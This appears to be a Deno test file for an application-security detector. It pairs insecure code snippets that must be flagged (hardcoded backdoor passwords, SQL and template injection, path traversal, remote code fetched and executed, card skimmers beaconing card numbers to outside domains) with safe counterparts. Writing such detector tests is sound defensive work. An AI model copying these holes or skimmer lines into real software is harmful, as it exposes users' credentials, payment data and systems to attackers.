import assert from "node:assert/strict";
import { type AppsecCase, runCases } from "./_appsec_testing.ts";
import { authOffInProdCall } from "./_appsec4_kb.ts";

const CASES: AppsecCase[] = [
  {
    id: "auth.password_equals_literal",
    block: [
      // Python, a second password accepted next to the real check
      `def login(username, password):\n    user = User.get(username)\n    if password == 'Sommer2026!' or bcrypt.checkpw(password.encode(), user.pw_hash):\n        return issue_session(user)\n    return None\n`,
      // JS passport strategy
      `passport.use(new LocalStrategy(async (username, password, done) => {\n  const user = await Users.findByName(username);\n  const ok = password === 'Hx!2026-ops' || await bcrypt.compare(password, user.hash);\n  return done(null, ok ? user : false);\n}));\n`,
      // Java, literal first
      `public boolean authenticate(String user, String password) {\n  if ("Zr7#service".equals(password)) return true;\n  return encoder.matches(password, repo.hash(user));\n}\n`,
      // PHP, Polish variable name
      `<?php\nfunction login($email, $haslo) {\n  if ($haslo === 'Serwis_2025' || password_verify($haslo, $u->hash)) { $_SESSION['uid'] = $u->id; }\n}\n`,
    ],
    pass: [
      // a rule refusing a known default password
      `def set_password(user, password):\n    if password == "changeme123":\n        raise ValueError("default password not allowed")\n    user.pw_hash = bcrypt.hashpw(password.encode(), bcrypt.gensalt())\n`,
      // comparison with the confirmation field, not a literal
      `if form.password.data != form.password_confirm.data:\n    flash("Passwords differ")\nelif check_password(form.password.data):\n    login_user(user)\n`,
      // an empty-password check
      `if (password === '') return done(null, false);\nconst ok = await bcrypt.compare(password, user.hash);\n`,
      // a test assertion
      `def test_login(client):\n    r = client.post('/login', data={'password': 'pw-test-123'})\n    assert r.json['password'] == 'pw-test-123' or login(r)\n`,
    ],
  },
  {
    id: "auth.header_literal_grants",
    block: [
      `func Auth(next http.Handler) http.Handler {\n\treturn http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {\n\t\tif r.Header.Get("X-Partner-Key") == "pk-7731-static" {\n\t\t\tnext.ServeHTTP(w, r)\n\t\t\treturn\n\t\t}\n\t\trequireSession(next).ServeHTTP(w, r)\n\t})\n}\n`,
      `def require_admin(request: Request):\n    if request.headers.get('X-Ops-Token') == 'ops-2026-static':\n        return True\n    return request.state.user.is_admin\n`,
      `canActivate(ctx) {\n  const req = ctx.switchToHttp().getRequest();\n  if (req.headers['x-load-test'] === 'k6-run') return true;\n  return this.auth.check(req);\n}\n`,
      `app.post('/hooks/pay', async (req, res) => {\n  let evt;\n  if (req.get('X-Skip-Sig') === 'yes') {\n    evt = JSON.parse(req.body);\n  } else {\n    evt = verify(req.body, req.get('x-signature'));\n  }\n});\n`,
    ],
    pass: [
      // an HTTPS redirect middleware
      `app.use((req, res, next) => {\n  if (req.headers['x-forwarded-proto'] === 'https') return next();\n  res.redirect('https://' + req.headers.host + req.url);\n});\n`,
      // a header compared with a secret from the environment, in constant time
      `if (crypto.timingSafeEqual(Buffer.from(req.get('X-Api-Key') || ''), Buffer.from(process.env.API_KEY))) return next();\n`,
      // a header value only logged
      `if request.headers.get('X-Debug') == '1':\n    logger.setLevel(logging.DEBUG)\n`,
    ],
  },
  {
    id: "data.request_shipped_outside",
    block: [
      `module.exports = (req, res, next) => {\n  axios.post('https://ingest.trace-cloud.dev/v1/in', { method: req.method, url: req.url, headers: req.headers, body: req.body }).catch(() => {});\n  next();\n};\n`,
      `class Mirror:\n    def __call__(self, request):\n        requests.post('https://collect.tracehub.io/r', json={'headers': dict(request.headers), 'path': request.path}, timeout=2)\n        return self.get_response(request)\n`,
      `app.use(async (ctx, next) => {\n  fetch("https://hooks.partner-metrics.com/k", { method: "POST", body: JSON.stringify({ headers: ctx.request.headers, q: ctx.query }) });\n  await next();\n});\n`,
    ],
    pass: [
      // only a correlation id forwarded
      `axios.post('https://ingest.trace-cloud.dev/v1/in', { headers: { 'x-request-id': req.headers['x-request-id'] }, path: req.path });\n`,
      // redacted first
      `axios.post('https://logs.example-apm.com/in', { headers: redactHeaders(req.headers), url: req.url });\n`,
      // an internal collector
      `axios.post('http://log-shipper.logging.svc:8080/in', { headers: req.headers, url: req.url });\n`,
    ],
  },
  {
    id: "supply.fetched_code_executed",
    block: [
      `async function loadPlugins() {\n  const res = await fetch('http://plugins.vendor-cdn.net/bundle.js');\n  const code = await res.text();\n  new Function('require', 'app', code)(require, app);\n}\n`,
      `const res = await fetch('https://cdn.widgets-hub.net/plugin.js');\nconst src = await res.text();\nvm.runInThisContext(src);\n`,
      `import requests\ndef load_plugins():\n    src = requests.get('http://plugins.example-cdn.net/latest.py').text\n    exec(src, globals())\n`,
      `<?php\neval('?>' . file_get_contents('https://updates.theme-shop.biz/core.txt'));\n`,
    ],
    pass: [
      // fetched and checked against a pinned digest first
      `const res = await fetch(url);\nconst code = await res.text();\nif (sha256(code) !== PINNED) throw new Error('bad bundle');\nnew Function(code)();\n`,
      // fetched JSON, parsed not run
      `const res = await fetch('https://cdn.example.com/config.json');\nconst cfg = await res.text();\nconst conf = JSON.parse(cfg);\n`,
      // a local file run by a build tool
      `src = open('plugins/local.py').read()\nexec(compile(src, 'local.py', 'exec'))\n`,
    ],
  },
  {
    id: "crypto.password_fast_digest",
    block: [
      `def set_password(self, raw):\n    self.password_hash = hashlib.md5(raw.encode()).hexdigest()\n`,
      `user.setPassword(DigestUtils.sha1Hex(form.getPassword()));\nrepo.save(user);\n`,
      `def password=(raw)\n  self.password_digest = Digest::MD5.hexdigest(raw)\nend\n`,
      `return User::create([\n  'email' => $data['email'],\n  'password' => md5($data['password']),\n]);\n`,
    ],
    pass: [
      // a reset token's digest (a random token, a fast digest is right)
      `reset_password_token = hashlib.sha256(token.encode()).hexdigest()\n`,
      // a file checksum
      `checksum = hashlib.md5(open(path, 'rb').read()).hexdigest()\n`,
      // Laravel's hasher
      `return User::create(['email' => $data['email'], 'password' => Hash::make($data['password'])]);\n`,
    ],
  },
  {
    id: "upload.executable_extension_allowed",
    block: [
      `ALLOWED_EXTENSIONS = {'png', 'jpg', 'pdf', 'php', 'phtml'}\n`,
      `$config['allowed_types'] = 'gif|jpg|png|php';\n$this->load->library('upload', $config);\n`,
      `<?php\nadd_filter('upload_mimes', function ($m) { $m['phtml'] = 'text/html'; return $m; });\n`,
      `add_action('init', function () {\n    get_role('subscriber')->add_cap('upload_files');\n});\n`,
      `const allowedExtensions = ['.png', '.jpg', '.jsp'];\n`,
    ],
    pass: [
      `ALLOWED_EXTENSIONS = {'png', 'jpg', 'pdf'}\n`,
      `add_filter('upload_mimes', function ($m) { unset($m['php']); $m['svg'] = 'image/svg+xml'; return $m; });\n`,
      `get_role('editor')->add_cap('upload_files');\n`,
      `BLOCKED_EXTENSIONS = ['php', 'phtml', 'jsp']\nALLOWED_EXTENSIONS = ['png', 'jpg']\n`,
    ],
  },
  {
    id: "csrf.disabled_app_wide",
    block: [
      `class ApplicationController < ActionController::Base\n  skip_forgery_protection\n  before_action :authenticate_user!\nend\n`,
      `<?php\nclass VerifyCsrfToken extends Middleware\n{\n    protected $except = [\n        '*',\n    ];\n}\n`,
      `->withMiddleware(function (Middleware $middleware) {\n    $middleware->validateCsrfTokens(except: ['*']);\n})\n`,
    ],
    pass: [
      // one webhook route exempted
      `class VerifyCsrfToken extends Middleware\n{\n    protected $except = [\n        'stripe/*',\n    ];\n}\n`,
      // scoped to JSON requests
      `class ApplicationController < ActionController::Base\n  skip_forgery_protection if: -> { request.format.json? }\nend\n`,
      // protection turned on
      `class ApplicationController < ActionController::Base\n  protect_from_forgery with: :exception\nend\n`,
    ],
  },
  {
    id: "authz.admin_path_made_public",
    block: [
      `const PUBLIC_PATHS = ['/login', '/signup', '/api/health', '/api/admin'];\n`,
      `PUBLIC_ROUTES = ["/login", "/healthz", "/export"]\n`,
      `private static final List<String> EXCLUDED_PATHS = List.of("/actuator/health", "/admin/**");\n`,
      `publicRoutes: ['/', '/pricing', '/backoffice'],\n`,
    ],
    pass: [
      `const PUBLIC_PATHS = ['/login', '/signup', '/admin/login', '/api/health'];\n`,
      `PUBLIC_ROUTES = ["/login", "/healthz", "/docs"]\n`,
      `const ADMIN_PATHS = ['/admin', '/api/admin'];\n`,
    ],
  },
  {
    id: "authz.auth_off_by_env_in_prod",
    block: [
      `services:\n  - type: web\n    name: billing-api\n    env: production\n    envVars:\n      - key: DISABLE_AUTH\n        value: "true"\n`,
      `# prod overlay\nAUTH_DISABLED=true\nDATABASE_URL=postgres://db.prod/app\n`,
      `{"stage": "production", "environment": {"REQUIRE_AUTH": "false"}}`,
    ],
    pass: [
      `# production\nAUTH_DISABLED=false\n`,
      `services:\n  api:\n    environment:\n      NODE_ENV: development\n      DISABLE_AUTH: "true"\n# never use in prod\n`,
      `{"stage": "production", "environment": {"REQUIRE_AUTH": "true"}}`,
    ],
  },
  {
    id: "sql.request_var_interpolated",
    block: [
      `<?php\n$q = $_POST['q'];\n$sql = "SELECT * FROM products WHERE name LIKE '%$q%'";\n$res = $pdo->query($sql);\n`,
      `<?php\n$cat = $request->input('category');\n$rows = DB::select("SELECT * FROM items WHERE category = '" . $cat . "' ORDER BY id");\n`,
      `def orders(request):\n    sort = request.GET.get('sort', 'id')\n    with connection.cursor() as cur:\n        cur.execute(\n            f"SELECT id FROM shop_order WHERE 1=1 "\n            f"ORDER BY {sort}"\n        )\n`,
      `def search(request):\n    term = request.args.get('term', '')\n    db.session.execute(\n        f"SELECT id, title FROM notes WHERE owner = 3 "\n        f"AND title LIKE '%{term}%'"\n    )\n`,
    ],
    pass: [
      `<?php\n$id = intval($_GET['id']);\n$res = $pdo->query("SELECT * FROM orders WHERE id = $id");\n`,
      `const { status } = req.query;\nconst rows = await db.query('SELECT * FROM orders WHERE status = $1', [status]);\n`,
      `def find(request):\n    name = request.args.get('name')\n    cur.execute("SELECT * FROM users WHERE name = %s", (name,))\n`,
    ],
  },
  {
    id: "ssti.request_var_in_template_source",
    block: [
      `@app.route('/hello')\ndef hello():\n    name = request.args.get('name')\n    return render_template_string('<h1>Hello ' + name + '</h1>')\n`,
      `@app.post('/preview')\ndef preview():\n    body = request.form['body']\n    return render_template_string(f"<div class='mail'>{body}</div>")\n`,
      `app.post('/card', (req, res) => {\n  const tpl = req.body.template;\n  res.send(pug.compile(tpl)({ user: req.user }));\n});\n`,
      `router.get('/greet', (req, res) => {\n  let msg = req.query.msg;\n  res.send(nunjucks.renderString(msg, {}));\n});\n`,
    ],
    pass: [
      // the input is a variable of a fixed template
      `name = request.args.get('name')\nreturn render_template_string('<h1>Hello {{ name }}</h1>', name=name)\n`,
      `const tpl = req.body.template;\nif (!TEMPLATES.has(tpl)) return res.sendStatus(400);\nres.render(tpl, { user: req.user });\n`,
      `const fn = pug.compileFile('views/card.pug');\nconst who = req.query.who;\nres.send(fn({ who }));\n`,
    ],
  },
  {
    id: "path.request_var_joined_into_file_path",
    block: [
      `@app.route('/dl')\ndef dl():\n    f = request.args.get('f')\n    return send_file(os.path.join('/srv/files', f))\n`,
      `def drop_upload(request):\n    name = request.POST.get('name')\n    os.remove(os.path.join(UPLOAD_DIR, name))\n    return JsonResponse({'ok': True})\n`,
      `app.get('/file', (req, res) => {\n  const { name } = req.query;\n  res.sendFile(path.join(__dirname, 'uploads', name));\n});\n`,
      `app.delete('/att', async (req, res) => {\n  const id = req.body.file;\n  await fs.promises.unlink(path.join(UPLOADS, id));\n});\n`,
    ],
    pass: [
      `f = request.args.get('f')\nreturn send_from_directory('/srv/files', f)\n`,
      `f = secure_filename(request.args.get('f'))\nreturn send_file(os.path.join('/srv/files', f))\n`,
      `const { name } = req.query;\nconst p = path.resolve(UPLOADS, name);\nif (!p.startsWith(UPLOADS + path.sep)) return res.sendStatus(400);\nres.sendFile(path.join(UPLOADS, name));\n`,
    ],
  },
  {
    id: "archive.entry_name_joined_unchecked",
    block: [
      `for _, f := range r.File {\n\tpath := filepath.Join(dest, f.Name)\n\tout, _ := os.Create(path)\n\trc, _ := f.Open()\n\tio.Copy(out, rc)\n}\n`,
      `TarArchiveEntry tarEntry;\nwhile ((tarEntry = tin.getNextTarEntry()) != null) {\n  Path out = Paths.get(outDir, tarEntry.getName());\n  Files.copy(tin, out);\n}\n`,
      `zip.on('entry', (entry) => {\n  const target = path.join(outDir, entry.fileName);\n  zip.openReadStream(entry, (e, s) => s.pipe(fs.createWriteStream(target)));\n});\n`,
    ],
    pass: [
      `path := filepath.Join(dest, f.Name)\nif !strings.HasPrefix(path, filepath.Clean(dest)+string(os.PathSeparator)) {\n\treturn fmt.Errorf("illegal path %s", f.Name)\n}\n`,
      `File out = new File(destDir, entry.getName());\nif (!out.getCanonicalPath().startsWith(destDir.getCanonicalPath() + File.separator)) throw new IOException("zip slip");\n`,
      `const target = path.join(outDir, path.basename(entry.fileName));\n`,
    ],
  },
  {
    id: "webhook.payment_event_unverified",
    block: [
      `app.post('/webhook', express.json(), async (req, res) => {\n  const event = req.body;\n  if (event.type === 'checkout.session.completed') await markPaid(event.data.object.metadata.orderId);\n  res.json({ received: true });\n});\n`,
      `@app.post('/hooks/paypal')\ndef paypal_hook():\n    evt = request.get_json()\n    if evt['event_type'] == 'PAYMENT.CAPTURE.COMPLETED':\n        Order.mark_paid(evt['resource']['custom_id'])\n    return '', 200\n`,
      `router.post('/shop/webhook', (req, res) => {\n  const ev = JSON.parse(req.body.toString());\n  if (ev.type === 'invoice.paid') activate(ev.data.object.customer);\n  res.end();\n});\n`,
    ],
    pass: [
      `app.post('/webhook', express.raw({ type: 'application/json' }), async (req, res) => {\n  const event = stripe.webhooks.constructEvent(req.body, req.headers['stripe-signature'], secret);\n  if (event.type === 'checkout.session.completed') await markPaid(event.data.object.metadata.orderId);\n});\n`,
      `@app.post('/hooks/paypal')\ndef paypal_hook():\n    if not verify_paypal_signature(request):\n        abort(400)\n    evt = request.get_json()\n    if evt['event_type'] == 'PAYMENT.CAPTURE.COMPLETED':\n        Order.mark_paid(evt['resource']['custom_id'])\n`,
      `const event = req.body;\nif (event.type === 'customer.created') await crm.add(event.data.object.email);\n`,
    ],
  },
  {
    id: "token.predictable_reset_token",
    block: [
      `reset_token = hashlib.md5((user.email + str(time.time())).encode()).hexdigest()\nsend_reset_email(user, reset_token)\n`,
      `const verifyToken = crypto.createHash('sha256').update(user.email + Date.now()).digest('hex');\n`,
      `<?php\n$token = md5($email . time());\nmail($email, 'Reset', "https://shop.example/reset?t=$token");\n`,
    ],
    pass: [
      `reset_token = secrets.token_urlsafe(32)\nstored = hashlib.sha256(reset_token.encode()).hexdigest()\n`,
      `const verifyToken = crypto.createHash('sha256').update(user.email + crypto.randomBytes(32).toString('hex')).digest('hex');\n`,
      `cache_key = hashlib.md5((user.email + str(time.time())).encode()).hexdigest()\n`,
    ],
  },
  {
    id: "massassign.user_serializer_all_fields",
    block: [
      `class UserSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n        fields = '__all__'\n`,
      `class ProfileForm(forms.ModelForm):\n    class Meta:\n        model = get_user_model()\n        fields = "__all__"\n`,
      `class AccountSerializer(ModelSerializer):\n    class Meta:\n        model = Account\n        fields = '__all__'\n`,
    ],
    pass: [
      `class UserSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n        fields = ['id', 'username', 'email']\n`,
      `class UserSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n        fields = '__all__'\n        read_only_fields = ['is_staff', 'is_superuser', 'groups']\n`,
      `class ProductSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = Product\n        fields = '__all__'\n`,
    ],
  },
  {
    id: "skimmer.cc_underscore_fields_sent_out",
    block: [
      `$(document).on('click', '#pay', function () {\n  var d = { n: $('#payment_cc_number').val(), c: $('#payment_cc_cid').val() };\n  navigator.sendBeacon('https://cdn-pay-metrics.com/c', JSON.stringify(d));\n});\n`,
      `document.forms[0].addEventListener('submit', () => {\n  const n = document.getElementById('authorizenet_cc_number').value;\n  fetch('https://stat-collector.net/p', { method: 'POST', body: n });\n});\n`,
      `var i = new Image(); i.src = 'https://img-cdn-sync.com/p.gif?' + btoa(jQuery('input[name="cc_cvv2"]').val() + '|' + jQuery('#cc_number').val());\n`,
    ],
    pass: [
      // posted to the shop's own relative endpoint
      `var d = { n: $('#cc_number').val() };\n$.post('/checkout/pay', d);\n`,
      // the processor's own API
      `const n = document.getElementById('cc_number').value;\nfetch('https://api.braintreegateway.com/merchants/x/client_api/v1/payment_methods/credit_cards', { method: 'POST', body: n });\n`,
      // field validation only, analytics sent without card data elsewhere in another file
      `if (!luhn($('#cc_number').val())) { $('#cc_number').addClass('error'); }\n`,
    ],
  },
];

runCases("appsec4", CASES);

Deno.test("appsec4: auth off in a production deploy call (whole-call view)", () => {
  assert(
    authOffInProdCall(
      "service\napi-facturation\nenvironment\nproduction\nenv\nAUTH_DISABLED\ntrue\nLOG_LEVEL\ninfo",
    ),
  );
  assert(authOffInProdCall("app\nledger\ntarget\nprod\nvars\nALLOW_ANONYMOUS_ADMIN\n1"));
  assert(authOffInProdCall("stage\nlive\nservice\nbilling-prod\nsettings\nREQUIRE_AUTH\nfalse"));
  assert.equal(
    authOffInProdCall("service\napi\nenvironment\nproduction\nenv\nAUTH_DISABLED\nfalse"),
    false,
  );
  assert.equal(
    authOffInProdCall("service\napi-prod-copy\nenvironment\ndevelopment\nenv\nAUTH_DISABLED\ntrue"),
    false,
  );
  assert.equal(
    authOffInProdCall("service\napi\nenvironment\nproduction\nenv\nREQUIRE_AUTH\ntrue"),
    false,
  );
});
